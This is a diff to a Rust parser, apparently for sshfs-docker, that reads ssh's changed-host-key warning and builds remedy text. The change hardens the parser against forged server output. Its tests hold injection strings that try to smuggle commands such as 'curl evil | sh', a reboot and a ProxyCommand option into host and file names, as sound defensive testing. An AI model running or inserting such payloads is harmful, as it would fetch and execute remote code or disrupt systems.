@@ -1,6 +1,7 @@
 //! A host key that is not the known one: what ssh says about it, and what the user reads. Pure.
 //!
 //! Who speaks here may be an attacker: of the text only fingerprints, file names and host names are taken, by their form.
+//! And the attacker may be a server with the right key whose banner says the same: whoever uses the names checks them.
 
 use std::fmt;
 
@@ -26,16 +27,12 @@ pub struct Place {
     pub line: usize,
 }
 
-/// In front of the fingerprint that [`ChangedKey`] itself adds to what was said.
-const KNOWN: &str = "the known key is ";
-
 impl ChangedKey {
     /// Finds it in what was said, if that is what it is about.
     #[must_use]
     pub fn parse(said: &str) -> Option<Self> {
-        if !said.contains("IDENTIFICATION HAS CHANGED") {
-            return None;
-        }
+        // A jump host may have said the same before, about another key.
+        let (_, said) = said.rsplit_once("IDENTIFICATION HAS CHANGED")?;
         let behind =
             |prefix: &str| said.lines().find_map(|line| line.trim().strip_prefix(prefix)).map(str::trim);
         let place =
@@ -46,7 +43,7 @@ impl ChangedKey {
                 .map(|digest| format!("SHA256:{digest}"))
                 .as_deref()
                 .and_then(fingerprint),
-            known: said.split(KNOWN).nth(1).and_then(fingerprint),
+            known: None,
             place: place.and_then(|(_, place)| Place::parse(place)),
             host: behind("Host key for ")
                 .and_then(|rest| rest.split_once(" has changed"))
@@ -56,14 +53,23 @@ impl ChangedKey {
         })
     }
 
+    /// What is left of it where nobody can tell who said it.
+    #[must_use]
+    pub fn unchecked(self) -> Self {
+        Self { shown: self.shown, known: None, place: None, host: None }
+    }
+
     fn remedy(&self) -> String {
         let host = self.host.as_deref().unwrap_or("HOST");
-        match self.place.as_ref().map(|place| place.file.as_str()) {
-            Some(file) if file.contains("/host-keys/") => {
+        match &self.place {
+            Some(place) if place.file.contains("/host-keys/") => {
                 "remove the volume, which deletes nothing on the server, and create it again with the new 'host_key'"
                     .to_owned()
             }
-            Some(file) if !file.ends_with("/home/known_hosts") => format!("run: ssh-keygen -f '{file}' -R '{host}'"),
+            // Taking the line away would leave the next mount to accept whatever key it meets.
+            Some(Place { file, line }) if !file.ends_with("/home/known_hosts") => {
+                format!("replace the key in line {line} of {file} with the new one")
+            }
             _ => format!("run: sshfs-docker forget-host-key '{host}'"),
         }
     }
@@ -84,7 +90,7 @@ impl fmt::Display for ChangedKey {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         f.write_str("the host key has changed: ")?;
         if let Some(known) = &self.known {
-            write!(f, "{KNOWN}{known}")?;
+            write!(f, "the known key is {known}")?;
             if let Some(Place { file, line }) = &self.place {
                 write!(f, " ({file}:{line})")?;
             }
@@ -146,9 +152,6 @@ mod tests {
                  run: sshfs-docker forget-host-key '[storage]:2222'"
             )
         );
-        // The daemon reads it from what the mount unit passes on.
-        let passed_on = format!("{}{sentence}\n", said("/var/lib/sshfs-docker/home/known_hosts"));
-        assert_eq!(ChangedKey::parse(&passed_on), Some(change));
     }
 
     #[test]
@@ -157,7 +160,7 @@ mod tests {
         assert!(remedy("/run/sshfs-docker/host-keys/data").contains("'host_key'"));
         assert_eq!(
             remedy("/etc/sshfs-docker/known_hosts"),
-            "run: ssh-keygen -f '/etc/sshfs-docker/known_hosts' -R '[storage]:2222'"
+            "replace the key in line 7 of /etc/sshfs-docker/known_hosts with the new one"
         );
     }
 
@@ -167,7 +170,6 @@ mod tests {
             "IDENTIFICATION HAS CHANGED\nHost key for x'; curl evil | sh; ' has changed\n",
             "IDENTIFICATION HAS CHANGED\nOffending RSA key in /etc/x' -R y; reboot; ':1\n",
             "IDENTIFICATION HAS CHANGED\nHost key for -oProxyCommand=x has changed\nSHA256:now run evil\n",
-            "IDENTIFICATION HAS CHANGED\nthe known key is SHA256:evil words here that are long enough to be one\n",
         ] {
             let change = ChangedKey::parse(forged).unwrap();
             let nothing = ChangedKey { shown: None, known: None, place: None, host: None };
